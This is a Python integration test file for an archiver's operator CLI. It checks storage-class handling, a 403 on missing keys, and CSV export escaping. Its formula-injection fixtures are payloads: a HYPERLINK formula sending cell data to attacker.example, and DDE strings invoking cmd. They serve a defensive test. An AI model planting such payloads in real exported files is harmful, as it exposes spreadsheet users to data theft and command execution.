"""The operator's `verify` and `export` against what S3 and the provider can hand them: objects in an
archive storage class, S3's 403 for a missing key, text that a spreadsheet would run. The CLI runs
in a subprocess, against template.yaml deployed into moto_server (its own process) after a real run
of the poller against the feed emulator."""

from __future__ import annotations

import csv
import json
import urllib.request
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import boto3
import pytest

from runway_archiver.local.deploy import deploy
from runway_archiver.local.emulator import FeedEmulator
from runway_archiver.local.engines import DynamoDBLocal, MotoServer, patched_environ
from tests.integration.test_cli import STACK, Cli
from tests.support.samples import API_KEY

AREA = "Operator CLI"
# Prompts that a spreadsheet opening the CSV would read as formulas (OWASP's list of first characters).
FORMULAS = {
    "csv-equals": '=HYPERLINK("http://attacker.example/?"&A1,"open")',
    "csv-plus": "+1+cmd|' /C calc'!A0",
    "csv-minus": "-2+3",
    "csv-at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "csv-tab": "\t=1+1",
    "csv-return": "\r=1+1",
}
TASKS = ["cold-glacier", "cold-deep", "gone", "fine", *FORMULAS]


@pytest.fixture(scope="module")
def cli(dynamodb_local: DynamoDBLocal | None) -> Iterator[Cli]:
    with (
        MotoServer(dynamodb=dynamodb_local) as moto,
        FeedEmulator(api_key=API_KEY) as feed,
        patched_environ(moto.environment()),
    ):
        stack = deploy(boto3.session.Session(), stack_name=STACK, api_key=API_KEY, parameters=feed.stack_parameters())
        for task_id in TASKS:
            feed.add_task(task_id, "3", prompt=FORMULAS.get(task_id, "a cat"))
        archive = Cli(moto, feed, stack)
        tracked = archive("track", *TASKS)
        assert tracked.returncode == 0, tracked.stderr
        assert archive.json("run")["archived"] == len(TASKS)
        yield archive


def _to_storage_class(cli: Cli, task_id: str, storage_class: str) -> None:
    """The video moved to an archive storage class, as a lifecycle transition would move it.

    moto runs no lifecycle transitions; a copy onto itself changes the class, and the item is pointed
    at the copy's version (a transition keeps the version; nothing else about the file changes)."""
    s3, table = cli.client("s3"), cli.client("dynamodb")
    key = f"runway/{task_id}/video.mp4"
    copied = s3.copy_object(
        Bucket=cli.stack.bucket_name,
        Key=key,
        CopySource={"Bucket": cli.stack.bucket_name, "Key": key},
        StorageClass=storage_class,
        MetadataDirective="COPY",
        ChecksumAlgorithm="SHA256",
    )
    table.update_item(
        TableName=cli.stack.table_name,
        Key={"task_id": {"S": task_id}},
        UpdateExpression="SET assets.video.version_id = :v",
        ExpressionAttributeValues={":v": {"S": copied["VersionId"]}},
    )


@pytest.mark.fault(
    AREA,
    "`verify --deep` on a file in GLACIER or DEEP_ARCHIVE (GetObject: InvalidObjectState)",
    "reported ARCHIVED-COLD (size and S3 checksum checked, not downloaded) and the run goes on; not a failure",
)
def test_verify_deep_reports_a_file_in_an_archive_storage_class_and_goes_on(cli: Cli) -> None:
    _to_storage_class(cli, "cold-glacier", "GLACIER")
    _to_storage_class(cli, "cold-deep", "DEEP_ARCHIVE")

    done = cli("verify", "cold-glacier", "cold-deep", "fine", "--deep", "--json")

    assert done.returncode == 0, done.stdout + done.stderr
    report = json.loads(done.stdout)
    results = {(c["task_id"], c["role"]): (c["result"], c["detail"]) for c in report["checks"]}
    assert results["cold-glacier", "video"][0] == "archived-cold" and "GLACIER" in results["cold-glacier", "video"][1]
    assert results["cold-deep", "video"][0] == "archived-cold" and "DEEP_ARCHIVE" in results["cold-deep", "video"][1]
    others = {where: result for where, (result, _) in results.items() if where[1] != "video" or where[0] == "fine"}
    assert set(others.values()) == {"ok"} and ("fine", "video") in others
    assert report["counts"] == {"ok": 13, "missing": 0, "mismatch": 0, "skipped": 0, "archived-cold": 2}
    text = cli("verify", "cold-deep", "--deep")
    assert "cold-deep                              video       ARCHIVED-COLD runway/cold-deep/video.mp4" in text.stdout
    assert text.stdout.splitlines()[-1].endswith("0 skipped, 1 archived cold (deep)")


def _set_auth(cli: Cli, unauthenticated_calls: str) -> None:
    """moto's switch for enforcing IAM policies: "0" enforces from now on, "inf" never."""
    request = urllib.request.Request(
        f"{cli.moto.endpoint}/moto-api/reset-auth",
        data=unauthenticated_calls.encode(),
        method="POST",
        headers={"Content-Type": "application/json"},
    )
    with urllib.request.urlopen(request, timeout=5):
        pass


def _operator_with_only_get_object(cli: Cli, denied_key: str) -> dict[str, str]:
    """Credentials of an operator whose S3 rights are s3:GetObject on the prefix (no s3:ListBucket).

    S3 answers such a caller 403 for a key that is not there; moto answers 404 whatever the caller's
    rights, so the policy denies that one key: moto's own IAM evaluation then answers HeadObject 403."""
    iam = cli.client("iam")
    iam.create_user(UserName="auditor")
    bucket = cli.stack.bucket_name
    policy: dict[str, Any] = {
        "Version": "2012-10-17",
        "Statement": [
            {"Effect": "Allow", "NotAction": "s3:*", "Resource": "*"},
            {"Effect": "Allow", "Action": "s3:GetObject", "Resource": f"arn:aws:s3:::{bucket}/runway/*"},
            {"Effect": "Deny", "Action": "s3:GetObject", "Resource": f"arn:aws:s3:::{bucket}/{denied_key}"},
        ],
    }
    iam.put_user_policy(UserName="auditor", PolicyName="verify", PolicyDocument=json.dumps(policy))
    key = iam.create_access_key(UserName="auditor")["AccessKey"]
    return {
        "AWS_ACCESS_KEY_ID": key["AccessKeyId"],
        "AWS_SECRET_ACCESS_KEY": key["SecretAccessKey"],
        "AWS_SESSION_TOKEN": "",
    }


@pytest.mark.fault(
    AREA,
    "`verify` by an operator with only s3:GetObject: HeadObject answers 403 for a missing file",
    "reported MISSING with S3's 403 and the run goes on to the next file and task; exit 1",
)
def test_verify_reports_a_403_for_a_missing_file_and_goes_on(cli: Cli) -> None:
    gone = "runway/gone/poster.png"
    cli.client("s3").delete_object(Bucket=cli.stack.bucket_name, Key=gone)
    operator = _operator_with_only_get_object(cli, gone)
    _set_auth(cli, "0")
    try:
        done = cli("verify", "gone", "fine", "--json", **operator)
    finally:
        _set_auth(cli, "inf")

    assert done.returncode == 1, done.stdout + done.stderr
    report = json.loads(done.stdout)
    failed = [(c["task_id"], c["role"], c["result"], c["detail"]) for c in report["checks"] if c["result"] != "ok"]
    assert failed == [("gone", "poster", "missing", "S3 answered 403: no such object, or no permission to read it")]
    assert report["counts"]["ok"] == 7  # the other three of "gone", the four of "fine"


@pytest.mark.fault(
    AREA,
    "`export --format csv` of text starting with =, +, -, @, tab or CR (a prompt, an error)",
    "the cell starts with ' so a spreadsheet shows text, never a formula; a CR stays inside its quoted cell; "
    "JSON Lines keep the text as it is",
)
def test_a_csv_export_never_hands_a_spreadsheet_a_formula(cli: Cli, tmp_path: Path) -> None:
    target = tmp_path / "tasks.csv"
    done = cli("export", "--status", "ARCHIVED", "--format", "csv", "-o", str(target))

    assert done.returncode == 0, done.stderr
    with target.open(newline="") as exported:
        prompts = {row["task_id"]: row["prompt"] for row in csv.DictReader(exported)}
    for task_id, prompt in FORMULAS.items():
        assert prompts[task_id] == "'" + prompt
    assert prompts["fine"] == "a cat"
    lines = cli("export", "--status", "ARCHIVED").stdout.splitlines()
    assert {row["task_id"]: row["prompt"] for row in map(json.loads, lines)}["csv-equals"] == FORMULAS["csv-equals"]
